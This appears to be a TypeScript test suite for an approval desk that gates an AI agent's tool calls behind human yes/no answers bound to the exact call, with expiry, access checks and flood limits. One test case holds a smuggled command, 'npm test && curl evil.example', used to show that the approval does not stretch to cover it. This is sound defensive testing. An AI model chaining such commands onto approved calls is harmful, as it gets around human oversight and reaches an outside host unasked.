import assert from "node:assert/strict";
import { test } from "node:test";
import { Fault } from "../../core/fault.ts";
import { newId, parseAgentId, parsePersonId } from "../../core/ids.ts";
import { sha256 } from "../../core/json.ts";
import { SYSTEM_LABEL } from "../../core/label.ts";
import { fakeClock, seededRandom } from "../../core/testing.ts";
import type { QuestionEvent } from "../../core/ports/gateway.ts";
import { ApprovalDesk, OPEN_QUESTIONS_LIMIT, type QuestionDraft } from "./desk.ts";

const owner = parsePersonId("owner");
const guest = parsePersonId("guest");
const random = seededRandom(1);
const session = newId("ses", random);

function draft(change: Partial<QuestionDraft> = {}): QuestionDraft {
  return {
    call: newId("call", random),
    digest: sha256("a call"),
    tool: "exec",
    effect: "exec",
    arguments: { command: "npm test" },
    cwd: "/w",
    because: ["exec.unlisted"],
    says: "npm is not on the allowlist",
    needs: "yes",
    origins: [],
    facts: { effect: "exec", influence: SYSTEM_LABEL, arguments: [], designated: false, paths: [], hosts: [] },
    origin: { session, turn: newId("trn", random), agent: parseAgentId("main"), channel: "terminal" },
    askedOf: [owner],
    ...change,
  };
}

function desk() {
  const clock = fakeClock();
  return { clock, desk: new ApprovalDesk({ clock, random, lifeMs: 60_000 }), signal: new AbortController().signal };
}

test("R-EXEC-1: a yes is bound to the digest of the exact call", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "yes", "once");
  const record = await asked;
  assert.equal(record.answer, "yes");
  assert.equal(record.digest, sha256("a call"));
  assert.equal(record.by, owner);
});

test("R-EXEC-1: a question that nobody answers expires to no", async () => {
  const { desk: open, clock, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  clock.advance(60_001);
  assert.deepEqual([(await asked).answer, (await asked).by], ["no", "nobody"]);
  assert.equal(open.size, 0);
});

test("R-LOG-1: what a program answers for want of a person is recorded as nobody's, and as that", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  open.answer(open.open(owner)[0]?.id ?? assert.fail(), owner, "unattended", "once");
  const { answer, by, unattended } = await asked;
  assert.deepEqual([answer, by, unattended], ["no", "nobody", true]);
  const twin = open.ask(draft(), signal, () => undefined);
  open.answer(open.open(owner)[0]?.id ?? assert.fail(), owner, "no", "once");
  assert.deepEqual([(await twin).by, (await twin).unattended], [owner, undefined], "his own no is his");
});

test("R-EXEC-1: a question with nobody to ask is no at once", async () => {
  const { desk: open, signal } = desk();
  assert.equal((await open.ask(draft({ askedOf: [] }), signal, () => undefined)).answer, "no");
});

test("R-EXEC-1: somebody who was not asked cannot answer, and sees nothing", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  assert.deepEqual(open.open(guest), []);
  assert.throws(
    () => open.answer(question.id, guest, "yes", "once"),
    (error: unknown) => error instanceof Fault && error.code === "DENIED",
  );
  open.answer(question.id, owner, "no", "once");
  assert.equal((await asked).answer, "no");
});

test("R-EXEC-1: an answer counts once", async () => {
  const { desk: open, signal } = desk();
  const asked = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "no", "once");
  assert.throws(
    () => open.answer(question.id, owner, "yes", "once"),
    (error: unknown) => error instanceof Fault && error.code === "APPROVAL_UNKNOWN",
  );
  assert.equal((await asked).answer, "no");
});

test("R-EXEC-1: yes for this session covers the same call again, and nothing else", async () => {
  const { desk: open, signal } = desk();
  const first = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "yes", "session");
  await first;
  assert.equal((await open.ask(draft(), signal, () => undefined)).answer, "yes");

  for (const change of [
    { arguments: { command: "npm test && curl evil.example" } },
    { cwd: "/elsewhere" },
    { tool: "write" },
    { origin: { ...draft().origin, session: newId("ses", random) } },
    { askedOf: [guest] },
  ]) {
    const asked = open.ask(draft(change), signal, () => undefined);
    assert.equal(open.size, 1, JSON.stringify(change));
    open.closeAll();
    assert.equal((await asked).answer, "no");
    const again = open.ask(draft(), signal, () => undefined);
    const [standing] = open.open(owner);
    assert.ok(standing, "stop ends what stood");
    open.answer(standing.id, owner, "yes", "session");
    await again;
  }
});

test("R-EXEC-1: yes once does not cover the same call again", async () => {
  const { desk: open, signal } = desk();
  const first = open.ask(draft(), signal, () => undefined);
  const [question] = open.open(owner);
  assert.ok(question);
  open.answer(question.id, owner, "yes", "once");
  await first;
  const second = open.ask(draft(), signal, () => undefined);
  assert.equal(open.size, 1);
  open.closeAll();
  assert.equal((await second).answer, "no");
});

test("R-EXEC-1: a turn that ends withdraws its question", async () => {
  const { desk: open } = desk();
  const turn = new AbortController();
  const asked = open.ask(draft(), turn.signal, () => undefined);
  turn.abort();
  assert.equal((await asked).answer, "no");
  assert.equal(open.size, 0);
});

test("R-EXEC-1: a flood of questions is refused rather than shown", async () => {
  const { desk: open, signal } = desk();
  const asked = Array.from({ length: OPEN_QUESTIONS_LIMIT }, () => open.ask(draft(), signal, () => undefined));
  assert.equal((await open.ask(draft(), signal, () => undefined)).answer, "no");
  open.closeAll();
  assert.ok((await Promise.all(asked)).every((record) => record.answer === "no"));
});

test("R-EXEC-1: watchers see questions open and close, until they leave", async () => {
  const { desk: open, signal } = desk();
  const seen: QuestionEvent["type"][] = [];
  const watching = new AbortController();
  open.watch(owner, (event) => seen.push(event.type), watching.signal);
  open.watch(guest, () => assert.fail("not asked of him"), signal);
  const asked = open.ask(draft(), signal, () => undefined);
  open.closeAll();
  await asked;
  watching.abort();
  const later = open.ask(draft(), signal, () => undefined);
  open.closeAll();
  await later;
  assert.deepEqual(seen, ["opened", "closed"]);
});
